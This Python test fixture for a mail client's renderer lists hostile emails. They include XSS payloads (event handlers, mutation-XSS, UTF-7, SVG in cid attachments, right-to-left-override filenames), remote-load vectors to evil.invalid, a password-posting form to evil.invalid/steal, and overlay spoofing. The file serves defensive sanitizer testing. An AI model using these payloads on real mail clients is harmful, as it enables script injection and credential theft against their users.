# ruff: noqa: E501 - one payload a line reads best
"""Hostile mail for the real engine, beyond the sanitizer suite of tests/test_sanitize.py.

Every script here, if it ever ran, would leave a trace the browser reports: a
request to the live server's sentinel path `/__xss__/<id>` (visible from the
sandboxed frame too, whose origin is opaque), `top.__xss`, the top document's
title, or an `alert` dialog. Remote URLs point at `.invalid` hosts: any request
for them is recorded and aborted by the test's router, never sent.
"""

from __future__ import annotations

from testkit import mailfactory as mf


def js(tag: str) -> str:
    """The marker a payload's script would run (no quotes, so it fits any attribute)."""
    return (
        f"fetch(`/__xss__/{tag}`);new Image().src=`/__xss__/{tag}`;"
        "top.document.title=`XSS`;top.__xss=1;alert(1)"
    )


EVIL = "https://evil.invalid"

# (id, HTML body) - rendered in the sandboxed body frame.
HTML_PAYLOADS: list[tuple[str, str]] = [
    ("svg-foreignobject-script", f"<svg><foreignObject><script>{js('fo')}</script></foreignObject></svg>x"),
    ("svg-script-href", f'<svg><script href="data:,{js("svgsrc")}"/></svg>x'),
    ("svg-animate-onbegin", f"<svg><animate onbegin=\"{js('onbegin')}\" attributeName=x dur=1s>"),
    ("svg-image-remote", f'<svg><image href="{EVIL}/svg-image.png"/></svg>x'),
    ("svg-use-remote", f'<svg><use href="{EVIL}/sprite.svg#a"/></svg>x'),
    ("svg-feimage-remote", f'<svg><filter id=f><feImage href="{EVIL}/fe.png"/></filter></svg>x'),
    ("iframe-srcdoc-parent", f"<iframe srcdoc=\"<script>{js('srcdoc')}</script>\"></iframe>x"),
    ("iframe-data-url", f'<iframe src="data:text/html,<script>{js("dataframe")}</script>"></iframe>'),
    ("object-data-svg", f"<object data=\"data:image/svg+xml,<svg onload='{js('objsvg')}'/>\"></object>"),
    ("object-remote", f'<object data="{EVIL}/x.swf" type="application/x-shockwave-flash"></object>'),
    ("embed-html", f"<embed src=\"data:text/html,<script>{js('embed')}</script>\" type=text/html>"),
    ("img-onerror-marker", f"<img src=x onerror=\"{js('onerror')}\">"),
    ("body-onload-marker", f"<body onload=\"{js('onload')}\">x</body>"),
    ("details-ontoggle", f"<details open ontoggle=\"{js('toggle')}\"><summary>s</summary>x</details>"),
    ("video-source-onerror", f"<video><source onerror=\"{js('source')}\"></video>x"),
    ("marquee-onstart", f"<marquee onstart=\"{js('marquee')}\">x</marquee>"),
    ("input-autofocus", f"<input autofocus onfocus=\"{js('autofocus')}\">"),
    ("form-autosubmit", f'<form action="{EVIL}/steal" method=post><input name=pw value=x></form>'),
    ("math-href-js", f'<math href="javascript:{js("mathhref")}"><mi>click</mi></math>'),
    ("noembed-mxss", f'<noembed><img title="</noembed><img src=x onerror={js("noembed")}>">'),
    ("noframes-mxss", f'<noframes><p title="</noframes><img src=x onerror={js("noframes")}>">'),
    ("select-style-mxss", f"<select><style></select><img src=x onerror=\"{js('select')}\">"),
    ("namespace-script", f"<html xmlns:x=\"http://www.w3.org/1999/xhtml\"><x:script>{js('ns')}</x:script>"),
    ("meta-refresh-remote", f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">x'),
    ("meta-csp-override", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">x"),
    ("base-href-remote", f'<base href="{EVIL}/"><img src="base.png"><a href="rel">x</a>'),
    ("link-prefetch", f'<link rel=prefetch href="{EVIL}/prefetch"><link rel=preload as=image href="{EVIL}/preload.png">x'),
    ("style-import-remote", f"<style>@import url({EVIL}/import.css);</style>x"),
    ("style-font-face-remote", f"<style>@font-face{{font-family:z;src:url({EVIL}/f.woff)}}p{{font-family:z}}</style><p>x</p>"),
    ("style-content-url", f"<style>p::before{{content:url({EVIL}/before.png)}}</style><p>x</p>"),
    ("css-cursor-remote", f'<div style="cursor:url({EVIL}/c.cur),auto">x</div>'),
    ("css-list-style-remote", f'<ul style="list-style-image:url({EVIL}/li.png)"><li>x</li></ul>'),
    ("css-border-image-remote", f'<div style="border:5px solid;border-image:url({EVIL}/b.png) 30">x</div>'),
    ("css-mask-remote", f'<div style="-webkit-mask-image:url({EVIL}/m.png);mask-image:url({EVIL}/m.png)">x</div>'),
    ("body-background-remote", f'<body background="{EVIL}/body-bg.png">x</body>'),
    ("video-poster-remote", f'<video poster="{EVIL}/poster.png"></video>x'),
    ("track-remote", f'<video><track src="{EVIL}/t.vtt" default></video>x'),
    ("img-srcset-remote-only", f'<img srcset="{EVIL}/s.png 1x, {EVIL}/s2.png 2x" alt=s>'),
    ("anchor-ping", f'<a href="https://ok.invalid/" ping="{EVIL}/ping">x</a>'),
    ("anchor-target-top", '<a href="https://ok.invalid/" target=_top>x</a>'),
    ("css-fixed-overlay", '<div style="position:fixed;inset:0;z-index:2147483647;background:red">COVER</div>'),
    ("css-negative-margin", '<div style="margin-top:-5000px;margin-left:-5000px;height:10000px;width:10000px;background:red">x</div>'),
    ("css-transform-scale", '<div style="transform:scale(60);background:red">x</div>'),
    ("css-outline-huge", '<div style="outline:5000px solid red">x</div>'),
    ("css-box-shadow-huge", '<div style="box-shadow:0 0 0 5000px red">x</div>'),
    ("table-width-huge", '<table width=100000 bgcolor=red><tr><td>x</td></tr></table>'),
    ("dialog-modal", '<dialog open style="position:fixed;inset:0">fake login</dialog>'),
    ("popover-top-layer", '<div popover=manual id=p style="inset:0">cover</div><button popovertarget=p>x</button>'),
    ("clobber-ids", '<img name=getElementById><form id=check-mail></form><a id=compose-form>x</a>'),
    ("font-size-huge", '<p style="font-size:5000px;line-height:5000px">HUGE</p>'),
]  # fmt: skip

# (id, raw message) - hostile headers, text bodies, charsets and attachment names,
# which the top page itself renders (escaped) or the frame shows.
SUBJECT_XSS = f"<img src=x onerror={js('subject')}><script>{js('subject2')}</script>"
RAW_PAYLOADS: list[tuple[str, bytes]] = [
    ("subject-markup", mf.plain(SUBJECT_XSS, "body\n")),
    (
        "from-name-markup",
        mf.plain("from", "x\n", from_=f'"<svg onload={js("from")}>" <evil@evil.invalid>'),
    ),
    (
        "to-cc-markup",
        mf.plain(
            "to",
            "x\n",
            to=f'"<img src=x onerror={js("to")}>" <bob@example.test>',
            headers=[("Cc", f'"</dd><script>{js("cc")}</script>" <c@example.test>')],
        ),
    ),
    (
        "text-plain-markup",
        mf.plain(
            "text",
            f"<script>{js('text')}</script>\n<img src=x onerror={js('text2')}>\n"
            f'javascript:{js("textjs")} https://ok.invalid/"onmouseover="{js("textattr")}\n',
        ),
    ),
    (
        "utf7-html",
        mf.html_only(f"+ADw-script+AD4-{js('utf7')}+ADw-/script+AD4-x", charset="utf-7"),
    ),
    (
        "cp949-labelled-script",
        mf.message(
            mf.text_part(
                f"<p>안녕</p><script>{js('cp949')}</script>",
                "html",
                charset="cp949",
                label="euc-kr",
            ),
            subject="euc-kr",
        ),
    ),
    (
        "filename-markup",
        mf.with_attachments(
            attachments=[
                (f'"><img src=x onerror={js("fname")}>.txt', "text/plain", b"x"),
                ("exe\u202efdp.html", "text/html", f"<script>{js('rlo')}</script>".encode()),
            ],
            subject="filenames",
        ),
    ),
    (
        "cid-svg-inline",
        mf.message(
            mf.multipart(
                "related",
                mf.text_part('<p>logo</p><img src="cid:evil@x">', "html"),
                mf.attachment_part(
                    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{js('cidsvg')}'/>".encode(),
                    None,
                    "image/svg+xml",
                    disposition=None,
                    content_id="evil@x",
                ),
            ),
            subject="cid svg",
        ),
    ),
    (
        "cid-png-really-svg",
        mf.message(
            mf.multipart(
                "related",
                mf.text_part('<p>logo</p><img src="cid:fake@x">', "html"),
                mf.attachment_part(
                    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{js('cidpng')}'/>".encode(),
                    None,
                    "image/png",
                    disposition=None,
                    content_id="fake@x",
                ),
            ),
            subject="cid png",
        ),
    ),
    (
        "alternative-html-wins",
        mf.alternative("plain", f'<p>html</p><img src=x onerror="{js("alt")}">'),
    ),
]
